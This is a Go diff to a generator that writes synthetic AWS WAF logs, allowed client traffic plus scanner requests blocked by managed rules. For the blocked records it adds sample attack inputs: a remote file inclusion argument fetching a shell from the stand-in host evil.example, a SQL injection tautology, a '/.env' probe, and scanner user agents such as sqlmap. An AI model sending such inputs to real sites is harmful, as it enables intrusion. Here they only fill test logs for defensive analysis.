@@ -78,75 +78,79 @@ func logKey(acct, region, acl string, t time.Time, suffix string) string {
 		acct, region, acl, t.Format("2006/01/02/15/04"), acct, region, acl, t.Format("20060102T1504Z"), suffix)
 }
 
-// generate writes background traffic: a web ACL per account, in front of an ALB in its first region,
-// mostly allowed requests from returning clients, and a few blocked by managed rules. It writes one file
-// per hour where WAF writes one per 5 minutes of traffic: a twelfth of the objects keeps gen and the
-// demo fast, and compact reads either the same.
+// generate writes background traffic: a web ACL in front of each of the world's load balancers, requests
+// from the world's clients (allowed) and from its internet scanners (blocked by managed rules: SQL
+// injection, remote file inclusion, Log4j, IP reputation). It writes one file per hour where WAF writes
+// one per 5 minutes of traffic: a twelfth of the objects keeps gen and the demo fast, and compact reads
+// either the same.
 func generate(c source.GenConfig, put source.Put) (int, error) {
 	perDay := c.PerDay
 	if perDay <= 0 {
 		perDay = 500
 	}
+	w := c.TheWorld()
 	r := rand.New(rand.NewPCG(uint64(c.Seed), 0x7761662d67656e)) // "waf-gen"
 	paths := []string{"/", "/login", "/api/v1/orders", "/api/v1/cart", "/static/app.js", "/health", "/search"}
 	agents := []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
 		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
 		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", "okhttp/4.12.0"}
+	scanAgents := []string{"Mozilla/5.0 zgrab/0.x", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "python-requests/2.31.0"}
 	countries := []string{"US", "US", "US", "DE", "GB", "FR", "JP", "BR", "IN", "CA"}
-	blocks := []struct{ group, rule, label string }{
-		{"AWS-AWSManagedRulesCommonRuleSet", "GenericRFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericRFI_QueryArguments"},
-		{"AWS-AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLi_QueryArguments"},
-		{"AWS-AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"},
-	}
-	// Clients come back: a pool of a few hundred addresses, the first ones the busiest.
-	clients := make([]string, 300)
-	for i := range clients {
-		clients[i] = fmt.Sprintf("%d.%d.%d.%d", 23+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254))
+	blocks := []struct{ group, rule, label, uri, args string }{
+		{"AWS-AWSManagedRulesCommonRuleSet", "GenericRFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericRFI_QueryArguments", "/index.php", "page=http://evil.example/shell.txt"},
+		{"AWS-AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLi_QueryArguments", "/search", "q=1%27%20OR%20%271%27%3D%271"},
+		{"AWS-AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", "/", ""},
+		{"AWS-AWSManagedRulesAmazonIpReputationList", "AWSManagedIPReputationList", "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList", "/.env", ""},
 	}
 	n := 0
-	for _, acct := range c.Accounts {
-		for _, region := range c.Regions[:min(1, len(c.Regions))] {
-			acl := "web-acl-app"
-			arn := fmt.Sprintf("arn:aws:wafv2:%s:%s:regional/webacl/%s/%08x-0000-4000-8000-%012x", region, acct, acl, r.Uint32(), r.Uint64()&0xffffffffffff)
-			alb := fmt.Sprintf("%s-app/%016x", region, r.Uint64())
-			for d := 0; d < c.Days; d++ {
-				day := c.Start.AddDate(0, 0, d)
-				files := map[string][]byte{}
-				for i := 0; i < perDay; i++ {
-					t := day.Add(time.Duration(r.Int64N(int64(24*time.Hour/time.Millisecond))) * time.Millisecond)
-					ip := clients[r.IntN(1+r.IntN(len(clients)))]
-					rec := map[string]any{
-						"timestamp": t.UnixMilli(), "formatVersion": 1, "webaclId": arn,
-						"terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
-						"terminatingRuleMatchDetails": []any{}, "httpSourceName": "ALB", "httpSourceId": acct + "-app/" + alb,
-						"ruleGroupList": []any{}, "rateBasedRuleList": []any{}, "nonTerminatingMatchingRules": []any{},
-						"requestHeadersInserted": nil, "responseCodeSent": nil, "labels": []any{},
-						"ja3Fingerprint": fmt.Sprintf("%032x", r.Uint64()%64),
-						"httpRequest": map[string]any{
-							"clientIp": ip, "country": countries[r.IntN(len(countries))],
-							"headers": []any{map[string]any{"name": "Host", "value": "app.example.com"}, map[string]any{"name": "User-Agent", "value": agents[r.IntN(len(agents))]}},
-							"uri":     paths[r.IntN(len(paths))], "args": "", "httpVersion": "HTTP/1.1", "httpMethod": "GET",
-							"requestId": fmt.Sprintf("1-%08x-%024x", t.Unix(), r.Uint64()),
-						},
-					}
-					if r.IntN(50) == 0 {
-						b := blocks[r.IntN(len(blocks))]
-						rec["terminatingRuleId"], rec["terminatingRuleType"], rec["action"] = b.group, "MANAGED_RULE_GROUP", "BLOCK"
-						rec["ruleGroupList"] = []any{map[string]any{"ruleGroupId": "AWS#" + strings.TrimPrefix(b.group, "AWS-"),
-							"terminatingRule": map[string]any{"ruleId": b.rule, "action": "BLOCK"}}}
-						rec["labels"] = []any{map[string]any{"name": b.label}}
-					}
-					line, err := json.Marshal(rec)
-					if err != nil {
-						return n, err
-					}
-					k := logKey(acct, region, acl, t.Truncate(time.Hour), "gen")
-					files[k] = append(append(files[k], line...), '\n')
-					n++
+	for _, lb := range w.LoadBalancers {
+		arn := lb.WebACL
+		_, _, acl, ok := parseARN(arn)
+		if !ok {
+			return n, fmt.Errorf("load balancer %s: web ACL %q is not arn:aws:wafv2:REGION:ACCOUNT:regional/webacl/NAME/ID", lb.Name, arn)
+		}
+		for d := 0; d < c.Days; d++ {
+			day := c.Start.AddDate(0, 0, d)
+			files := map[string][]byte{}
+			for i := 0; i < perDay; i++ {
+				t := day.Add(time.Duration(r.Int64N(int64(24*time.Hour/time.Millisecond))) * time.Millisecond)
+				ip, ua, uri, args := w.Clients[r.IntN(1+r.IntN(len(w.Clients)))], agents[r.IntN(len(agents))], paths[r.IntN(len(paths))], ""
+				scan := len(w.Scanners) > 0 && r.IntN(20) == 0
+				if scan {
+					ip, ua = w.Scanners[r.IntN(len(w.Scanners))], scanAgents[r.IntN(len(scanAgents))]
 				}
-				if err := putAll(files, put); err != nil {
+				rec := map[string]any{
+					"timestamp": t.UnixMilli(), "formatVersion": 1, "webaclId": arn,
+					"terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
+					"terminatingRuleMatchDetails": []any{}, "httpSourceName": "ALB", "httpSourceId": lb.Account + "-" + lb.Name,
+					"ruleGroupList": []any{}, "rateBasedRuleList": []any{}, "nonTerminatingMatchingRules": []any{},
+					"requestHeadersInserted": nil, "responseCodeSent": nil, "labels": []any{},
+					"ja3Fingerprint": fmt.Sprintf("%032x", r.Uint64()%64),
+				}
+				if scan {
+					b := blocks[r.IntN(len(blocks))]
+					uri, args = b.uri, b.args
+					rec["terminatingRuleId"], rec["terminatingRuleType"], rec["action"] = b.group, "MANAGED_RULE_GROUP", "BLOCK"
+					rec["ruleGroupList"] = []any{map[string]any{"ruleGroupId": "AWS#" + strings.TrimPrefix(b.group, "AWS-"),
+						"terminatingRule": map[string]any{"ruleId": b.rule, "action": "BLOCK"}}}
+					rec["labels"] = []any{map[string]any{"name": b.label}}
+				}
+				rec["httpRequest"] = map[string]any{
+					"clientIp": ip, "country": countries[r.IntN(len(countries))],
+					"headers": []any{map[string]any{"name": "Host", "value": lb.Host}, map[string]any{"name": "User-Agent", "value": ua}},
+					"uri":     uri, "args": args, "httpVersion": "HTTP/1.1", "httpMethod": "GET",
+					"requestId": fmt.Sprintf("1-%08x-%024x", t.Unix(), r.Uint64()),
+				}
+				line, err := json.Marshal(rec)
+				if err != nil {
 					return n, err
 				}
+				k := logKey(lb.Account, lb.Region, acl, t.Truncate(time.Hour), "gen")
+				files[k] = append(append(files[k], line...), '\n')
+				n++
+			}
+			if err := putAll(files, put); err != nil {
+				return n, err
 			}
 		}
 	}
